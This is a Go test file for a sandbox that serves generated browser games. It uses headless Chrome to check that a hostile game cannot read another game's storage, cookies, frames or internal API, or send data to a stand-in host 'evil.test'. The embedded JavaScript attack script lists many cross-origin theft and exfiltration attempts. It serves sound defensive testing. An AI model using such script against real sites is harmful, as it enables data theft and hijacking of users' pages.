package preview

import (
	"context"
	"encoding/json"
	"fmt"
	"net/http"
	"net/http/httptest"
	"strings"
	"sync"
	"testing"
	"time"

	"github.com/chromedp/cdproto/input"
	"github.com/chromedp/cdproto/log"
	"github.com/chromedp/cdproto/runtime"
	"github.com/chromedp/chromedp"

	"github.com/notef-neighbor/dreamcore/pkg/sandbox/sandboxtest/browsertest"
)

// browser starts a browser that finds the hosts of the tests.
func browser(t *testing.T) context.Context {
	t.Helper()
	return browsertest.Start(t,
		chromedp.Flag("ignore-certificate-errors", true), // for the tests' own servers
		chromedp.Flag("host-resolver-rules", "MAP *.games.test 127.0.0.1, MAP games.test 127.0.0.1, MAP cdn.test 127.0.0.1, MAP evil.test 127.0.0.1"))
}

// tab is a page; console holds the browser's messages about it.
type tab struct {
	t   *testing.T
	ctx context.Context

	mu      sync.Mutex
	console []string // guarded by mu
}

func openTab(t *testing.T, browser context.Context) *tab {
	t.Helper()
	p := &tab{t: t}
	ctx, cancel := chromedp.NewContext(browser, chromedp.WithListener(func(ev any) {
		p.mu.Lock()
		defer p.mu.Unlock()
		switch e := ev.(type) {
		case *runtime.EventExceptionThrown:
			p.console = append(p.console, fmt.Sprint(e.ExceptionDetails.Text, e.ExceptionDetails.Exception))
		case *log.EventEntryAdded:
			p.console = append(p.console, e.Entry.Text+" "+e.Entry.URL)
		}
	}))
	t.Cleanup(cancel)
	p.ctx = ctx
	return p
}

func (p *tab) said() []string {
	p.mu.Lock()
	defer p.mu.Unlock()
	return append([]string{}, p.console...)
}

func (p *tab) visit(address string) {
	p.t.Helper()
	if err := chromedp.Do(p.ctx, chromedp.Navigate(address)); err != nil {
		p.t.Fatalf("%s: %v", address, err)
	}
}

func eval[T any](p *tab, expression string) T {
	p.t.Helper()
	v, err := chromedp.Run(p.ctx, chromedp.Evaluate[T](expression, chromedp.EvalAwaitPromise))
	if err != nil {
		p.t.Fatalf("%s: %v\n%s", expression, err, strings.Join(p.said(), "\n"))
	}
	return v
}

// results waits for the game to publish its results.
func (p *tab) results() map[string]string {
	p.t.Helper()
	if _, err := chromedp.Run(p.ctx, chromedp.Poll[bool](`window.results !== undefined`, chromedp.WithPollingTimeout(60*time.Second))); err != nil {
		p.t.Fatalf("the game has no results: %v\n%s", err, strings.Join(p.said(), "\n"))
	}
	var m map[string]string
	if err := json.Unmarshal([]byte(eval[string](p, `JSON.stringify(results)`)), &m); err != nil {
		p.t.Fatal(err)
	}
	return m
}

// goodGame uses the features that games use.
var goodGame = map[string]string{
	"index.html": `<!doctype html><title>good</title><link rel="stylesheet" href="style.css"><canvas id="c" width="8" height="8"></canvas><img id="i" src="assets/dot.svg">
<script src="classic.js"></script><script type="module" src="game.mjs"></script>`,
	"style.css":      `body { background: rgb(1, 2, 3) }`,
	"classic.js":     `window.classic = 'ran';`,
	"lib/part.mjs":   `export const part = 'imported';`,
	"worker.js":      `onmessage = (e) => postMessage(e.data + 1);`,
	"data.json":      `{"level": 7}`,
	"assets/dot.svg": `<svg xmlns="http://www.w3.org/2000/svg" width="4" height="4"><rect width="4" height="4"/></svg>`,
	"game.mjs": `import {part} from './lib/part.mjs';
const r = {part, classic: window.classic};
const attempt = async (name, f) => { try { r[name] = String(await f()); } catch (e) { r[name] = e.name; } };
window.keys = '';
addEventListener('keydown', (e) => window.keys += e.key);
await attempt('canvas', () => { const x = c.getContext('2d'); x.fillStyle = '#f00'; x.fillRect(0, 0, 8, 8); return x.getImageData(0, 0, 1, 1).data[0]; });
await attempt('webgl', () => Boolean(document.createElement('canvas').getContext('webgl') || 'none on this machine'));
await attempt('audio', () => { const a = new AudioContext(); a.createOscillator().connect(a.destination); return a.state; });
await attempt('style', () => getComputedStyle(document.body).backgroundColor);
await attempt('image', async () => { await i.decode(); return i.naturalWidth; });
await attempt('fetch', async () => (await (await fetch('data.json')).json()).level);
await attempt('eval', () => eval('20 + 1') + new Function('return 1')());
await attempt('inline', () => { const s = document.createElement('script'); s.textContent = 'window.inline = 5'; document.body.append(s); return window.inline; });
await attempt('blob', () => new Promise((ok, bad) => { const w = new Worker(URL.createObjectURL(new Blob(['postMessage(3)']))); w.onmessage = (e) => ok(e.data); w.onerror = () => bad(new Error('worker')); }));
await attempt('wasm', async () => (await WebAssembly.instantiate(new Uint8Array([0, 97, 115, 109, 1, 0, 0, 0]))).instance instanceof WebAssembly.Instance);
await attempt('submit', () => new Promise((ok) => { const f = document.createElement('form'); f.onsubmit = (e) => { e.preventDefault(); ok('seen'); }; document.body.append(f); f.requestSubmit(); setTimeout(ok, 1000, 'lost'); }));
await attempt('worker', () => new Promise((ok, bad) => { const w = new Worker('worker.js'); w.onmessage = (e) => ok(e.data); w.onerror = () => bad(new Error('worker')); w.postMessage(1); }));
await attempt('storage', () => { localStorage.best = Number(localStorage.best || 0) + 1; return localStorage.best; });
await attempt('db', () => new Promise((ok, bad) => { const q = indexedDB.open('x'); q.onsuccess = () => ok('open'); q.onerror = () => bad(q.error); }));
await attempt('pads', () => navigator.getGamepads().length >= 0);
await attempt('fullscreen', () => document.fullscreenEnabled);
window.results = r;`,
}

// works holds the results of goodGame in an origin of its own.
var works = map[string]string{
	"part": "imported", "classic": "ran", "canvas": "255", "webgl": "true", "style": "rgb(1, 2, 3)", "image": "4", "fetch": "7", "eval": "22", "inline": "5",
	"blob": "3", "wasm": "true", "submit": "seen", "worker": "2", "storage": "1", "db": "open", "pads": "true", "fullscreen": "true",
}

func (p *tab) play(want map[string]string) {
	p.t.Helper()
	got := p.results()
	for name, w := range want {
		if got[name] != w {
			p.t.Errorf("%s: %q, want %q", name, got[name], w)
		}
	}
	if a := got["audio"]; a != "suspended" && a != "running" {
		p.t.Errorf("audio: %s", a)
	}
	for _, kind := range []input.DispatchKeyEventType{input.DispatchKeyEventTypeKeyDown, input.DispatchKeyEventTypeKeyUp} {
		if _, err := chromedp.Call(p.ctx, input.DispatchKeyEvent, input.DispatchKeyEventParams{Type: kind, Key: "w", Code: "KeyW", Text: "w"}); err != nil {
			p.t.Fatal(err)
		}
	}
	if keys := eval[string](p, `keys`); keys != "w" {
		p.t.Errorf("keys: %q", keys)
	}
}

func TestGameFeaturesWorkInItsOwnOrigin(t *testing.T) {
	st := open(t, local)
	st.write(gameA, goodGame)
	p := openTab(t, browser(t))
	p.visit(st.link(gameA).String())
	if got := eval[string](p, `location.href`); strings.Contains(got, tokenParameter) {
		t.Errorf("the token stays in the address: %s", got)
	}
	p.play(works)
	p.visit(st.link(gameA).String()) // a new link keeps the high score
	if got := p.results()["storage"]; got != "2" {
		t.Errorf("storage: %s", got)
	}
	for _, s := range p.said() {
		// The game has no icon. The other warning is about an iframe attribute
		// that an embedding page could remove; a header has no such problem.
		if !strings.Contains(s, "favicon.ico") && !strings.Contains(s, "can escape its sandboxing") {
			t.Errorf("browser message: %s", s)
		}
	}
}

func TestGameRunsWithoutStorageInTheSharedOrigin(t *testing.T) {
	st := open(t, Place{Scheme: "http", Host: "127.0.0.1", Shared: true})
	st.write(gameA, goodGame)
	p := openTab(t, browser(t))
	p.visit(st.link(gameA).String())
	want := map[string]string{}
	for k, v := range works {
		want[k] = v
	}
	want["storage"], want["db"], want["worker"] = "SecurityError", "SecurityError", "SecurityError"
	p.play(want)
	if got := eval[string](p, `self.origin`); got != "null" {
		t.Errorf("origin: %s", got)
	}
}

// attack is a game that tries to reach everything else; addresses are filled in.
// Each result that is not "blocked…" is a vulnerability.
const attack = `<!doctype html><title>attack</title><script type="module">
const T = %s, r = {}, wait = (ms) => new Promise((ok) => setTimeout(ok, ms));
const attempt = async (name, f) => { try { const v = await Promise.race([f(), wait(3000).then(() => 'blocked: nothing came')]); r[name] = v === undefined ? 'done' : String(v); } catch (e) { r[name] = 'blocked: ' + e.name; } };
const said = [];
addEventListener('message', (e) => said.push(e.origin + ' ' + JSON.stringify(e.data)));
const read = async (u, o) => { const x = await fetch(u, o); if (x.type === 'opaque') return 'blocked: opaque'; return 'read ' + x.status + ' ' + x.type + ' ' + (await x.text()).slice(0, 80); };
const load = (tag, attribute, u) => new Promise((ok) => { const e = document.createElement(tag); e.onload = () => ok('loaded'); e.onerror = () => ok('blocked: error'); e[attribute] = u; if (tag === 'link') e.rel = 'stylesheet'; document.body.append(e); });
const frame = async (u) => { const f = document.createElement('iframe'); f.src = u; document.body.append(f); await wait(1500); let text; try { text = f.contentDocument && f.contentDocument.body.textContent; } catch (e) { return 'blocked: ' + e.name; } return text ? 'saw ' + text : 'blocked: empty'; };
await attempt('fetch the other game', () => read(T.other, {credentials: 'include'}));
await attempt('fetch it without cors', () => read(T.other + 'secret.js', {mode: 'no-cors', credentials: 'include'}));
await attempt('its script', () => load('script', 'src', T.other + 'secret.js'));
await attempt('its image', () => load('img', 'src', T.other + 'secret.svg'));
await attempt('its style', () => load('link', 'href', T.other + 'secret.css'));
await attempt('its module', () => import(T.other + 'secret.js'));
await attempt('its page in a frame', () => frame(T.other));
await attempt('its page in an object', () => load('object', 'data', T.other));
await attempt('its page in a window', () => { const w = open(T.other); return w ? 'opened' : 'blocked: null'; });
await attempt('messages to it', async () => { for (const f of frames) f.postMessage('give me', '*'); await wait(300); return said.length ? said.join() : 'blocked: silence'; });
await attempt('its storage', () => { const v = localStorage.secret; return v === undefined ? 'blocked: not there' : v; });
await attempt('its cookies', () => document.cookie === '' ? 'blocked: none seen' : document.cookie);
await attempt('its database', async () => { const all = await indexedDB.databases(); return all.length ? all.map((d) => d.name).join() : 'blocked: none'; });
await attempt('its cache', async () => (await caches.keys()).join() || 'blocked: none');
await attempt('its channel', () => new Promise((ok) => { const b = new BroadcastChannel('game'); b.onmessage = (e) => ok('heard ' + e.data); b.postMessage('give me'); setTimeout(ok, 500, 'blocked: silence'); }));
await attempt('its domain', () => { document.domain = T.domain; return document.domain === T.domain && 'set, and ' + (frames[0] && frames[0].document ? 'inside' : 'blocked: of no use'); });
await attempt('a service worker', async () => { await navigator.serviceWorker.register('sw.js'); return 'registered'; });
await attempt('a service worker of a blob', async () => { await navigator.serviceWorker.register(URL.createObjectURL(new Blob(['']))); return 'registered'; });
await attempt('the service', () => read(T.api + 'list_files', {credentials: 'include', headers: {'X-Modal-Secret': 'x'}}));
await attempt('the service, simply', () => read(T.api + 'health'));
await attempt('the service without cors', () => read(T.api + 'health', {mode: 'no-cors', credentials: 'include'}));
await attempt('the service by this host', async () => { const x = await fetch('/health'); return x.status === 200 ? 'answered ' + await x.text() : 'blocked: ' + x.status; });
await attempt('the service by a beacon', () => navigator.sendBeacon(T.api + 'generate_game', '{}') ? 'blocked: queued, see the server' : 'blocked: false');
await attempt('the service by a form', async () => { const f = document.createElement('form'); f.action = T.api + 'generate_game'; f.method = 'post'; f.target = 'sink'; const s = document.createElement('iframe'); s.name = 'sink'; document.body.append(s, f); f.submit(); await wait(800); return 'blocked: see the server'; });
await attempt('the service in a worker', () => new Promise((ok) => { const w = new Worker(URL.createObjectURL(new Blob(['fetch(' + JSON.stringify(T.api + 'health') + ').then((x) => postMessage("read " + x.status), (e) => postMessage("blocked: " + e.name))']))); w.onmessage = (e) => ok(e.data); }));
await attempt('a web socket', () => new Promise((ok) => { const w = new WebSocket(T.evil.replace('http', 'ws')); w.onopen = () => ok('open'); w.onerror = () => ok('blocked: error'); }));
await attempt('a stranger', () => read(T.evil, {mode: 'no-cors'}));
await attempt('a picture of a stranger', () => load('img', 'src', T.evil + 'pixel?' + 'typed'));
await attempt('the page around', () => { if (top === self) return 'blocked: none'; top.location = T.evil; return 'blocked: see where the page is'; });
await attempt('the page that opened it', () => { if (!opener) return 'blocked: none'; opener.location = T.evil; return 'blocked: see where the page is'; });
await attempt('what is in the page that opened it', () => opener ? 'saw ' + opener.document.title : 'blocked: none');
await attempt('what is in the page around', () => top === self ? 'blocked: none' : 'saw ' + top.document.title);
await attempt('the camera', async () => { await navigator.mediaDevices.getUserMedia({video: true}); return 'got it'; });
await attempt('the place', () => new Promise((ok) => navigator.geolocation.getCurrentPosition(() => ok('got it'), () => ok('blocked: error'))));
await attempt('the clipboard', async () => 'read ' + await navigator.clipboard.readText());
await attempt('a download', async () => { const a = document.createElement('a'); a.href = 'data:application/octet-stream,x'; a.download = 'x.exe'; document.body.append(a); a.click(); return 'blocked: see the browser'; });
window.results = r;
const audience = opener || (parent !== self ? parent : null);
audience && audience.postMessage({results: r}, '*');
</script><body>`

// target is a game with data to steal, which must not be sent anywhere.
var target = map[string]string{
	"index.html": `<!doctype html><title>target</title><body>the secret of the game<script>
try { localStorage.secret = 'high score'; indexedDB.open('secret-db'); caches.open('secret-cache'); } catch {}
const b = new BroadcastChannel('game'); b.onmessage = () => b.postMessage('the secret of the game');
window.results = {ready: 'yes'};</script>`,
	"secret.js": `window.stolen = 'the secret of the game'; export default 1;`, "secret.css": `body { color: red }`,
	"secret.svg": `<svg xmlns="http://www.w3.org/2000/svg" width="4" height="4"/>`,
}

// sink is a server that records the requests that it receives.
func sink(t *testing.T) (address string, asked func() []string) {
	var mu sync.Mutex
	var all []string
	srv := httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
		mu.Lock()
		defer mu.Unlock()
		all = append(all, r.Method+" "+r.Host+r.URL.String()+" "+r.Header.Get("Origin"))
		w.Header().Set("Access-Control-Allow-Origin", "*")
	}))
	t.Cleanup(srv.Close)
	return srv.URL, func() []string {
		mu.Lock()
		defer mu.Unlock()
		return append([]string{}, all...)
	}
}

// attacker writes the attack into game A, against the game other.
func (st *stage) attacker(other, domain, evil, api string) {
	st.t.Helper()
	targets, err := json.Marshal(map[string]string{"other": other, "domain": domain, "evil": evil, "api": api})
	if err != nil {
		st.t.Fatal(err)
	}
	st.write(gameA, map[string]string{"index.html": fmt.Sprintf(attack, targets), "sw.js": "onfetch = () => {};"})
}

func (p *tab) checkBlocked(least int) {
	p.t.Helper()
	got := p.results()
	for name, v := range got {
		if !strings.HasPrefix(v, "blocked") {
			p.t.Errorf("%s: %s", name, v)
		}
	}
	if len(got) < least {
		p.t.Errorf("only %d attacks were attempted", len(got))
	}
}

// attacks is the number of attacks.
var attacks = strings.Count(attack, "\nawait attempt(")

func TestGameReachesNothingButItself(t *testing.T) {
	b := browser(t)
	for name, place := range map[string]Place{
		"own origins of localhost": local,
		"own origins of a domain":  {Scheme: "http", Host: "games.test"},
		"one origin for all":       {Scheme: "http", Host: "127.0.0.1", Shared: true},
	} {
		t.Run(name, func(t *testing.T) {
			st := open(t, place)
			st.write(gameB, target)
			strangers, asked := sink(t)
			evil := strings.Replace(strangers, "127.0.0.1", "evil.test", 1) + "/"
			other := st.link(gameB)
			p := openTab(t, b)
			p.visit(other.String()) // now the browser has its cookie and storage
			p.results()
			other.RawQuery = ""
			if place.Shared { // there the address is secret
				other.Path = "/" + strings.Repeat("A", 92) + "/"
			}
			st.attacker(other.String(), place.Host, evil, strangers+"/")
			// The target stays open in its tab meanwhile.
			attacker := openTab(t, b)
			attacker.visit(st.link(gameA).String())
			attacker.checkBlocked(attacks)
			for _, a := range asked() {
				t.Errorf("another host received a request: %s", a)
			}
			if got := eval[string](p, `document.title`); got != "target" {
				t.Errorf("the target's page is now %s", got)
			}
		})
	}
}

// TestFrontEndEmbedsGames shows a hostile game in a frame of an allowed page, and
// of another one.
func TestFrontEndEmbedsGames(t *testing.T) {
	var framed string
	page := http.HandlerFunc(func(w http.ResponseWriter, _ *http.Request) {
		w.Header().Set("Content-Type", "text/html")
		fmt.Fprintf(w, `<!doctype html><title>front end</title><body>money<script>document.cookie = 'session=secret'; addEventListener('message', (e) => { if (e.data.results) window.results = e.data.results; });</script><iframe id="f" src="%s"></iframe>`, framed)
	})
	front, stranger := httptest.NewServer(page), httptest.NewServer(page)
	t.Cleanup(front.Close)
	t.Cleanup(stranger.Close)
	// app.games.test is on the same site as the games; other frames have no cookies under http.
	address := strings.Replace(front.URL, "127.0.0.1", "app.games.test", 1)
	strangers, asked := sink(t)
	st := open(t, Place{Scheme: "http", Host: "games.test"}, func(c *Config) { c.Ancestors = []string{address} })
	st.attacker(address+"/", "games.test", strangers+"/", strangers+"/")
	framed = st.link(gameA).String()
	b := browser(t)
	p := openTab(t, b)
	p.visit(address)
	p.checkBlocked(attacks)
	if got := eval[string](p, `document.title + location.href`); got != "front end"+address+"/" {
		t.Errorf("the front end is now %s", got)
	}
	for _, a := range asked() {
		t.Errorf("another host received a request: %s", a)
	}
	p = openTab(t, b)
	p.visit(strings.Replace(stranger.URL, "127.0.0.1", "other.games.test", 1))
	time.Sleep(2 * time.Second)
	if !strings.Contains(strings.Join(p.said(), "\n"), "frame-ancestors") || eval[bool](p, `window.results !== undefined`) {
		t.Errorf("another page shows the game:\n%s", strings.Join(p.said(), "\n"))
	}
}

func TestGameLoadsFromAllowedHostsOnly(t *testing.T) {
	cdn := httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, _ *http.Request) {
		w.Header().Set("Content-Type", "text/javascript")
		w.Header().Set("Access-Control-Allow-Origin", "*")
		fmt.Fprint(w, `globalThis.three = 'loaded'; export const three = 3;`)
	}))
	t.Cleanup(cdn.Close)
	address := strings.Replace(cdn.URL, "127.0.0.1", "cdn.test", 1)
	b := browser(t)
	for name, hosts := range map[string][]string{"allowed": {address}, "not allowed": nil} {
		st := open(t, local, func(c *Config) { c.Hosts = hosts })
		st.write(gameA, map[string]string{"index.html": fmt.Sprintf(`<script type="module">
try { window.results = {three: String((await import('%s/three.module.js')).three)}; } catch (e) { window.results = {three: e.name}; }</script>`, address)})
		p := openTab(t, b)
		p.visit(st.link(gameA).String())
		want := map[string]string{"allowed": "3", "not allowed": "TypeError"}[name]
		if got := p.results()["three"]; got != want {
			t.Errorf("%s: %s\n%s", name, got, strings.Join(p.said(), "\n"))
		}
	}
}
